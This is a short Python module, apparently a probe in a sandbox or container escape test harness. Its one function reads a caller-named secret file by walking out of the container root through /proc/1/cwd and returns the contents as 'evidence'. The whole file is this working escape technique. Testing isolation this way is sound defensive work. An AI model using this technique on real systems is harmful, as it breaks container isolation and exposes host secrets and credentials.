"""Leaves its file system through the working directory of pid 1."""

def execute(params):
    with open(f"/proc/1/cwd/../../../..{params['secret_file']}") as file:
        return {"succeeded": True, "evidence": file.read()}
